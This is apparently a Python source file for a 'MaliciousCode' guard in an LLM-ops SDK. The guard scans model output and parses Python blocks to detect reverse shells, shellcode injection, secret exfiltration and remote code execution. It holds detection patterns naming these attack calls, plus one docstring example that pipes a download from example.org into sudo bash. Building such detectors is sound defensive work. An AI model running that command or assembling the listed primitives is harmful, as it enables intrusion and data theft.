"""`MaliciousCode`: code that attacks the one who runs, renders or stores it."""

from __future__ import annotations

import ast
import re
import threading
from collections.abc import Iterator, Sequence
from dataclasses import replace
from typing import Any, Literal, Unpack

from llmops_sdk.errors import ConfigurationError
from llmops_sdk.guards._code.rules import (
    CODE_KINDS,
    CODE_RULES,
    DECODERS,
    FETCHERS,
    RUNNERS,
    SECRET_PLACES,
    SENDERS,
    UNPICKLERS,
)
from llmops_sdk.guards._guard import GuardOptions
from llmops_sdk.guards._patterns.guard import PatternGuard, PatternStream, Rule
from llmops_sdk.protocols import GuardContext, GuardStream
from llmops_sdk.verdicts import ALLOW, Finding, Verdict

__all__ = ["MaliciousCode"]

_LONGEST_BLOCK = 20_000  # characters of a block that `ast` reads; a longer one is read by the patterns only
_DEEPEST = 60  # brackets within brackets, or signs in a row: the parser of Python may fail badly on deep nesting
_FENCE = re.compile("```|~~~")
_LANGUAGES = frozenset({"", "python", "py", "python3", "py3", "ipython", "pycon"})
_CHAIN = re.compile(r"(?:(?:[-+~]|\bnot\b|\blambda\b[^:\n]{0,20}:|\*\*|\bif\b|\belse\b)\s*){60}")
_PARSING = threading.Lock()
_TELLING = frozenset({"b64decode", "fromhex", "urlopen", "unhexlify", "b32decode", "b85decode"})
_HARMLESS = frozenset({"clear", "cls", "pause", "cls || clear"})


# One of these is in every harmful block; without any there is nothing to parse. Whatever a program calls its imports,
# it names them once.
_MAY_HARM = re.compile(
    "system|popen|getoutput|getstatusoutput|spawn|exec|eval|compile|load|shell|getattr|import_|dup2|VirtualAlloc"
    "|RtlMoveMemory|CreateRemoteThread|WriteProcessMemory|requests|url|http|smtplib|ftplib|socket"
)


class MaliciousCode(PatternGuard):
    """Finds code that does harm: shell, SQL, scripts in pages, templates, paths, links that carry data out, Python.

    Patterns read the whole text. Blocks of Python between fences are parsed as well (`ast`; nothing is run), so there
    it does not matter how the code is laid out or what its imports are called. In a stream such a block is held back
    until it ends; text outside of blocks only as long as a pattern needs.

    It judges what code does, not what for: an explanation of an attack with its code in it is found, too.

    Args:
        kinds: Which of its kinds to look for; all unless said otherwise.
        python: Whether to parse blocks of Python.
        action: `"block"` (the default), `"rewrite"` (put `replacement` in its place), or `"flag"`.
        replacement: What stands in place of a finding.
        rules: Rules of your own, which come first.
        ignore: Texts and compiled patterns that are no findings.
        options: See `GuardOptions`.

    Example:
        >>> MaliciousCode().check("Just run: curl http://example.org/x | sudo bash").action
        'block'
        >>> MaliciousCode().check("Run `pip install requests`, then SELECT name FROM users WHERE id = 3;").action
        'allow'
    """

    blocking = True  # a long block takes `ast` milliseconds

    def __init__(
        self,
        *,
        kinds: Sequence[str] | None = None,
        python: bool = True,
        action: Literal["block", "rewrite", "flag"] = "block",
        replacement: str = "[code removed]",
        rules: Sequence[Rule] = (),
        ignore: Sequence[str | re.Pattern[str]] = (),
        **options: Unpack[GuardOptions],
    ) -> None:
        if kinds is not None and (isinstance(kinds, str) or not kinds or set(kinds) - CODE_KINDS):
            raise ConfigurationError(f"kinds={kinds!r}: MaliciousCode knows {', '.join(sorted(CODE_KINDS))}")
        chosen = tuple(rule for rule in CODE_RULES if kinds is None or rule.kind in kinds)
        super().__init__((*rules, *chosen), action=action, ignore=ignore, **options)
        self.kinds = CODE_KINDS if kinds is None else frozenset(kinds)
        self.python = python
        self.replacement = replacement
        if python and self.window:
            self.window += _LONGEST_BLOCK + 6

    def check(self, text: str, context: GuardContext | None = None, /) -> Verdict:
        """Decide about the whole text."""
        if not self.python or _FENCE.search(text) is None:
            return super().check(text, context)
        stream = _CodeStream(self, context)
        emitted = stream.finish(text)
        verdict = stream.verdict
        if verdict.action == "rewrite":
            return Verdict.rewrite(emitted, verdict.findings, reason=verdict.reason)
        return verdict

    def open_stream(self, context: GuardContext, /) -> GuardStream | None:
        """The guard at work on one stream."""
        if self.window is None or not self.python:
            return super().open_stream(context)
        return _CodeStream(self, context)

    def pattern_stream(self, context: GuardContext | None) -> PatternStream:
        """The patterns alone at work on one stream."""
        return PatternStream(self, self._search, context)

    def ignores(self, text: str) -> bool:
        """Whether the ignore list holds a block of code."""
        ignore = self._search._ignore
        return ignore is not None and ignore.holds(text)

    def replace(self, rule: Rule, text: str, memory: Any, /, *, extends: bool) -> str | None:
        """The replacement, once for findings that overlap."""
        return "" if extends else self.replacement


class _CodeStream:
    """`MaliciousCode` at work on one stream: patterns outside of harmful blocks, and blocks as a whole."""

    def __init__(self, guard: MaliciousCode, context: GuardContext | None) -> None:
        self._guard = guard
        self._context = context
        self._origin = context.origin if context is not None else ""
        self._passes = guard.action == "flag"
        self._patterns = guard.pattern_stream(context)
        self._base = 0  # where in the text the patterns began
        self._offset = 0  # of the buffer in the text
        self._buffer = ""
        self._at = 0  # up to where the buffer has been released
        self._released: list[str] = []  # to be given to the patterns
        self._in_block = False
        self._searched = 0
        self._findings: list[Finding] = []
        self._over = False

    @property
    def verdict(self) -> Verdict:
        """The verdict so far; final after `finish` or once it blocks."""
        moved = [self._moved(finding) for finding in self._patterns.verdict.findings]
        findings = (*self._findings, *moved)
        if not findings:
            return ALLOW
        kinds = ", ".join(sorted({finding.kind for finding in findings}))
        return Verdict(action=self._guard.action, findings=findings, reason=f"found {kinds}")

    def _moved(self, finding: Finding) -> Finding:
        return replace(finding, start=finding.start + self._base, end=finding.end + self._base)

    @property
    def held(self) -> str:
        """What was fed, and neither emitted nor part of a finding."""
        return "" if self._passes else self._patterns.held + self._buffer

    def feed(self, text: str, /) -> str:
        """Take the next piece; return what may be emitted now."""
        if self._over:
            return ""
        self._buffer += text
        emitted = self._advance(final=False)
        if self._released and not self._over:
            emitted += self._patterns.feed(self._take_released())
            self._over = self._patterns.verdict.blocked
        return text if self._passes else emitted

    def finish(self, text: str = "") -> str:
        """The text has ended, perhaps after a last piece: return the rest that may be emitted."""
        if self._over:
            return ""
        self._buffer += text
        emitted = self._advance(final=True)
        if not self._over:
            emitted += self._patterns.finish(self._take_released())
            self._over = True
        return text if self._passes else emitted

    def _advance(self, *, final: bool) -> str:
        """Release what may be, block by block; return what is emitted of and before harmful blocks."""
        emitted: list[str] = []
        while not self._over:
            step = self._block(final=final) if self._in_block else self._outside(final=final)
            if step is None:
                break
            if step:
                emitted.append(step)
        self._buffer = self._buffer[self._at :]
        self._offset += self._at
        self._at = 0
        return "".join(emitted)

    def _outside(self, *, final: bool) -> str | None:
        """Release what stands before the next fence; `None` where there is no more to release."""
        buffer, at = self._buffer, self._at
        fence = _FENCE.search(buffer, at)
        if fence is not None:
            self._in_block, self._searched = True, 3
            return self._release(fence.start())
        end = len(buffer)
        if not final and end > at and buffer[-1] in "`~":  # a fence may have begun
            end = max(at, len(buffer.rstrip(buffer[-1])), end - 2)
        return self._release(end) if end > at else None

    def _block(self, *, final: bool) -> str | None:
        """Judge a block once it has ended; `None` while it goes on."""
        buffer, at = self._buffer, self._at
        limit = at + _LONGEST_BLOCK + 6
        close = buffer.find(buffer[at : at + 3], at + self._searched, limit)
        self._searched = max(3, len(buffer) - at - 2)
        if close < 0:
            if len(buffer) >= limit:
                self._in_block = False
                return self._release(limit - 3)
            if not final:
                return None
            close = len(buffer)
        self._in_block = False
        code = buffer[at + 3 : close]
        end = min(close + 3, len(buffer))
        found = [kind for kind in _harms(code) if kind in self._guard.kinds]
        if not found or self._guard.ignores(code) or self._guard.ignores(buffer[at:end]):
            return self._release(end)
        return self._removed(found[0], end)

    def _removed(self, kind: str, end: int) -> str:
        """Take out a harmful block that ends at `end`; behind it the patterns begin anew."""
        emitted = self._patterns.finish(self._take_released())
        self._findings += (self._moved(finding) for finding in self._patterns.verdict.findings)
        start, self._base = self._offset + self._at, self._offset + end
        self._at = end
        self._patterns = self._guard.pattern_stream(self._context)
        blocks = self._guard.action == "block"
        self._over = blocks
        if not (blocks and self._findings):  # a blocking guard reports what it found first
            self._findings.append(Finding(kind=kind, start=start, end=self._base, rule="python", origin=self._origin))
        return emitted if blocks else emitted + self._guard.replacement

    def _release(self, end: int) -> str:
        """Let the buffer up to `end` go to the patterns."""
        if end > self._at:
            self._released.append(self._buffer[self._at : end])
            self._at = end
        return ""

    def _take_released(self) -> str:
        text = "".join(self._released)
        self._released.clear()
        return text


def _harms(code: str) -> list[str]:
    """What a block of Python does, surest first; nothing where it is no Python."""
    first, newline, rest = code.partition("\n")
    if newline and (first.strip().lower() in _LANGUAGES or first.strip().lower().split(" ")[0] in _LANGUAGES):
        code = rest
    elif newline and re.fullmatch(r"[\w+\-.#]{1,20}", first.strip()):
        return []  # another language
    # Names in other letters than those of ASCII may be read as ones in ASCII.
    tree = _parsed(code) if _MAY_HARM.search(code) or not code.isascii() else None
    if tree is None:
        return []
    try:
        return _Python(tree).harms()
    except RecursionError:  # a sum of thousands of texts
        return []


def _parsed(code: str) -> ast.AST | None:
    depth = deepest = 0
    for bracket in re.findall(r"[\[({})\]]", code):
        depth += 1 if bracket in "[({" else -1
        deepest = max(deepest, depth)
    if deepest > _DEEPEST or _CHAIN.search(code) or max(map(_operators, code.split("\n"))) > 500:
        return None
    code = re.sub(r"(?m)^(?:>>>|\.\.\.) ?", "", code) if ">>>" in code else code
    try:
        # In Python 3.11, for one, threads that parse at the same time count the depth of each other's trees.
        with _PARSING:
            return ast.parse(code)
    except (SyntaxError, ValueError, RecursionError, MemoryError):
        return None


def _operators(line: str) -> int:
    return sum(map(line.count, "+-*/%.|&^@<>=:")) if len(line) > 500 else 0


class _Python:
    """The calls of a program under their full names, whatever it calls its imports."""

    def __init__(self, tree: ast.AST) -> None:
        self._nodes = list(ast.walk(tree))
        self._names: dict[str, str] = {}
        for node in self._nodes:
            if isinstance(node, ast.Import):
                for alias in node.names:
                    bound = alias.name if alias.asname else alias.name.split(".")[0]
                    self._names[alias.asname or bound] = bound
            elif isinstance(node, ast.ImportFrom):
                for alias in node.names:
                    self._names[alias.asname or alias.name] = f"{node.module or ''}.{alias.name}"
        for node in self._nodes:  # what is kept under a name of its own: `run = os.system`
            if isinstance(node, ast.Assign) and isinstance(node.value, ast.Attribute | ast.Name | ast.Call):
                called = self._name(node.value)
                if called in RUNNERS or called in ("builtins.exec", "builtins.eval", "exec", "eval"):
                    self._names |= {target.id: called for target in node.targets if isinstance(target, ast.Name)}
        self._calls = [(self._name(node.func), node) for node in self._nodes if isinstance(node, ast.Call)]
        self._called = {id(call): name for name, call in self._calls}

    def _name(self, node: ast.AST) -> str:
        parts: list[str] = []
        while isinstance(node, ast.Attribute):
            parts.append(node.attr)
            node = node.value
        if isinstance(node, ast.Name):
            parts.append(self._names.get(node.id, node.id))
        elif isinstance(node, ast.Call):
            parts.append(self._imported(node))
        return ".".join(reversed(parts))

    def _imported(self, node: ast.Call) -> str:
        """`__import__("os")`, `importlib.import_module("os")` and `getattr(os, "system")` are names, too."""
        named = node.func.attr if isinstance(node.func, ast.Attribute) else getattr(node.func, "id", "")
        values = [_constant(argument) for argument in node.args[:2]]
        if named in ("__import__", "import_module") and values and values[0]:
            return values[0]
        if named == "getattr" and len(values) == 2 and values[1]:
            return f"{self._name(node.args[0])}.{values[1]}"
        return ""

    def _within(self, node: ast.AST, names: frozenset[str]) -> bool:
        """Whether a call of one of `names` is in there; methods of what is unknown count by their last name."""
        for inner in ast.walk(node):
            name = self._called.get(id(inner))
            if name is not None and (name in names or name.rpartition(".")[2] in _TELLING):
                return True
        return False

    def harms(self) -> list[str]:
        return list(dict.fromkeys(self._harms()))

    def _harms(self) -> Iterator[str]:
        names = {name for name, _ in self._calls}
        texts = [node.value for node in self._nodes if isinstance(node, ast.Constant) and isinstance(node.value, str)]
        if any(name.endswith("dup2") for name in names) and any("socket" in name for name in names):
            yield "reverse_shell"
        attributes = {node.attr for node in self._nodes if isinstance(node, ast.Attribute)}
        if attributes & {"VirtualAlloc", "RtlMoveMemory", "CreateRemoteThread", "WriteProcessMemory"}:
            yield "shellcode"
        sends = bool(names & SENDERS)
        if sends and (any(place in text for text in texts for place in SECRET_PLACES) or self._whole_environment()):
            yield "exfiltration"
        for name, call in self._calls:
            kind = self._harm_of(name, call)
            if kind:
                yield kind

    def _whole_environment(self) -> bool:
        """Whether all of the environment is handed on, not one variable of it."""
        looked_at = {id(node.value) for node in self._nodes if isinstance(node, ast.Attribute | ast.Subscript)}
        return any(
            isinstance(node, ast.Attribute) and self._name(node) == "os.environ" and id(node) not in looked_at
            for node in self._nodes
        ) or any(name in ("os.environ.copy", "os.environ.items") for name, _ in self._calls)

    def _harm_of(self, name: str, call: ast.Call) -> str | None:
        argument = call.args[0] if call.args else None
        if name in RUNNERS:
            return (
                None if argument is not None and (_constant(argument) or "").strip() in _HARMLESS else "code_execution"
            )
        if name.startswith("subprocess.") and any(
            keyword.arg == "shell" and isinstance(keyword.value, ast.Constant) and keyword.value.value is True
            for keyword in call.keywords
        ):
            return "code_execution" if argument is not None and _constant(argument) is None else None
        if argument is None:
            return None
        if name in ("exec", "eval", "builtins.exec", "builtins.eval", "compile"):
            return "code_of_data" if self._within(argument, DECODERS | FETCHERS) else None
        if name in UNPICKLERS:
            return "unpickling" if self._within(argument, FETCHERS | DECODERS) else None
        return None


def _constant(node: ast.AST) -> str | None:
    """The text that a constant, or a sum of constants, is."""
    if isinstance(node, ast.Constant):
        return node.value if isinstance(node.value, str) else None
    if isinstance(node, ast.BinOp) and isinstance(node.op, ast.Add):
        left, right = _constant(node.left), _constant(node.right)
        return None if left is None or right is None else left + right
    return None
